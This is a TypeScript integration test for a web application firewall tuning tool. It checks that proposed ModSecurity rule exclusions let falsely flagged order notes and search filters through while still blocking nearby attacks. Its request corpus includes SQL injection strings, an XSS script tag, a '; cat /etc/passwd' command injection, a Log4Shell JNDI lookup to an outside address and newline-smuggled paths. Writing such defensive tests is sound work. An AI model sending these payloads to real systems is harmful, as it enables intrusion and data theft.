import { readFileSync } from 'node:fs';
import { detailOf, judgedOf, readAudit, summarise, utc } from '@bartizan/waf';
import type { JudgedTransaction, Tuning } from '@bartizan/waf';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { runCommand } from '../cli/src/policy/run-command.suite.ts';
import { tune } from '../cli/src/waf/tune.ts';
import { judgeWithout } from '../waf/src/tuning/judge-without.ts';
import { attack, attacks, harmless } from './servers/attacks.ts';
import type { Attack } from './servers/attacks.ts';
import { newRulesMissing, nginxMissing, startNginx } from './servers/nginx.ts';
import type { NginxOptions } from './servers/nginx.ts';

const form = (path: string, body: string): Attack => ({
  method: 'POST',
  path,
  headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: 'theme=dark' },
  body,
});
const json = (path: string, value: unknown): Attack => ({
  method: 'POST',
  path,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(value),
});
const text = (value: string): string => `text=${encodeURIComponent(value)}`;

/** Notes and filters that people write, and that the rule set takes for SQL. */
const wronglyJudged: readonly Attack[] = [
  ...Array.from({ length: 12 }, (_, index) => form(`/orders/${index + 1}/notes`, text("size 40' or '41'='41"))),
  ...Array.from({ length: 12 }, (_, index) =>
    form(`/orders/${index + 1}/notes`, text('1 union select null,price from list--')),
  ),
  ...Array.from({ length: 8 }, () => json('/search/v2', { filter: "size' or '1'='1" })),
];

/** Close to them, and still to be stopped: another rule, another variable, another path. */
const neighbours: readonly Attack[] = [
  form('/orders/5/notes', text('; cat /etc/passwd')),
  form('/orders/5/notes', text("1' or '1'='1 <script>alert(1)</script>")),
  form('/orders/5/notes', `q=${encodeURIComponent("1' or '1'='1")}`),
  form('/orders/new/notes', text("1' or '1'='1")),
  form('/orders/5/notes/more', text("1' or '1'='1")),
  form('/x%0a/orders/5/notes', text("1' or '1'='1")),
  form('/orders/5/notes%0a', text("1' or '1'='1")),
  json('/search/v2', { filter: 'x', other: "1' or '1'='1" }),
  json('/search/v2', { filter: '${jndi:ldap://198.51.100.7/a}' }),
  json('/search/v20', { filter: "1' or '1'='1" }),
];

const corpus = [...attacks, ...neighbours, ...wronglyJudged, ...harmless.slice(0, 200)];

/** What the firewall made of each request of the corpus, by its place in it. */
async function judgeAll(options: NginxOptions): Promise<{ auditLog: string; judged: Map<number, JudgedTransaction> }> {
  const server = await startNginx(options);
  await attack(server.port, corpus);
  await server.stop();
  const auditLog = readFileSync(server.auditLog, 'utf8');
  await server.remove();
  const judged = new Map<number, JudgedTransaction>();
  for (const line of auditLog.split('\n')) {
    const reading = readAudit(line, { zone: utc });
    const record = reading.ok === true ? reading.value : null;
    const summary = summarise(record, null);
    if (!record || !summary) continue;
    const { timeMs, rules, categories, ...rest } = summary;
    const referer = record.request?.headers.find(([name]) => name.toLowerCase() === 'referer')?.[1] ?? '';
    const row = {
      ...rest,
      id: referer,
      time: new Date(timeMs).toISOString(),
      namespace: null,
      rules: [...rules],
      categories: [...categories],
    };
    const one = judgedOf(detailOf({ row, record, access: null, raw: { audit: null, access: null } }));
    if (one) judged.set(Number(/n=(\d+)/.exec(referer)?.[1]), one);
  }
  return { auditLog, judged };
}

async function tuneLog(log: string, ...args: string[]): Promise<Tuning> {
  const { out, code, err } = await runCommand(tune, ['-', '-o', 'json', '--top', '300', ...args], log);
  expect({ code, err: code === 0 ? '' : err }).toEqual({ code: 0, err: '' });
  return JSON.parse(out) as Tuning;
}

/** Where the firewall, with the exclusions loaded, did not do what the replay of its earlier records said. */
function compare(
  before: ReadonlyMap<number, JudgedTransaction>,
  after: ReadonlyMap<number, JudgedTransaction>,
  groups: Tuning['groups'],
) {
  const exclusions = groups.flatMap(({ proposal }) => (proposal.ok ? [proposal] : []));
  const outcomes = { untouched: 0, passes: 0, 'still-judged': 0, unknown: 0 };
  const wrong = corpus.flatMap((request, index) => {
    const one = before.get(index);
    const outcome = one ? judgeWithout(one, exclusions).outcome : null;
    if (outcome) outcomes[outcome] += 1;
    const isExpected = outcome !== null && outcome !== 'passes';
    return after.has(index) === isExpected
      ? []
      : [{ request, outcome, places: one?.places.map(({ rule, variable }) => `${rule} ${variable}`) }];
  });
  return { wrong, outcomes };
}

const cases = (['On', 'DetectionOnly'] as const).flatMap((engine) =>
  (['file', 'annotation'] as const).map((written) => ({ engine, written })),
);
const isMissing = (ruleSet: '3.3' | '4'): boolean => (ruleSet === '4' ? newRulesMissing : nginxMissing) !== null;

describe.each(['3.3', '4'] as const)('exclusions on a real firewall with the Core Rule Set %s', (ruleSet) => {
  test.skipIf(isMissing(ruleSet)).each(cases)(
    `$engine, in a $written: what is proposed does to every request what the replay said (${newRulesMissing ?? 'Debian'})`,
    async ({ engine, written }) => {
      const base = { engine, auditFormat: 'JSON', ruleSet } as const;
      const before = await judgeAll(base);
      const { groups } = await tuneLog(before.auditLog);
      const wanted = groups.filter(
        ({ path, rule, proposal }) =>
          proposal.ok &&
          rule.startsWith('942') &&
          (proposal.target === 'ARGS:json.filter' || proposal.target === 'ARGS:text') &&
          (path === '/orders/{number}/notes' || path === '/search/v2'),
      );
      expect(before.auditLog).toContain(`OWASP_CRS/${ruleSet}.`);
      expect(wanted.length).toBeGreaterThan(2);
      const { chosen } = await tuneLog(before.auditLog, ...wanted.flatMap(({ key }) => ['--exclude', key]));
      if (!chosen) throw new Error('nothing was chosen');
      const snippet: string = parse(chosen.annotation).metadata.annotations[
        'nginx.ingress.kubernetes.io/modsecurity-snippet'
      ];
      const rules = written === 'file' ? { rules: chosen.modsecurity } : { snippet };
      const after = await judgeAll({ ...base, ...rules });

      const { wrong, outcomes } = compare(before.judged, after.judged, wanted);
      expect(wrong).toEqual([]);
      expect(outcomes.passes).toBe(chosen.replay.passes);
      expect(outcomes).toMatchObject({ passes: wronglyJudged.length, unknown: 0 });

      const isIn = (list: readonly Attack[], index: number): boolean => list.includes(corpus[index] ?? { path: '' });
      const passed = [...before.judged.keys()].filter((index) => !after.judged.has(index));
      expect(passed.every((index) => isIn(wronglyJudged, index))).toBe(true);
      expect(neighbours.filter((near) => after.judged.has(corpus.indexOf(near)))).toEqual(neighbours);
    },
  );

  test.skipIf(isMissing(ruleSet)).each([0, 1, 2])(
    'whatever the variable: every third proposal at once, from number %i on',
    async (from) => {
      const base = { engine: 'DetectionOnly', auditFormat: 'JSON', ruleSet } as const;
      const before = await judgeAll(base);
      const { groups } = await tuneLog(before.auditLog);
      const wanted = groups.filter(({ proposal }, index) => proposal.ok && index % 3 === from);
      const { chosen } = await tuneLog(before.auditLog, ...wanted.flatMap(({ key }) => ['--exclude', key]));
      const after = await judgeAll({ ...base, rules: chosen?.modsecurity ?? '' });
      const { wrong, outcomes } = compare(before.judged, after.judged, wanted);
      expect(wrong).toEqual([]);
      expect(outcomes.passes).toBeGreaterThan(5);
    },
  );
});
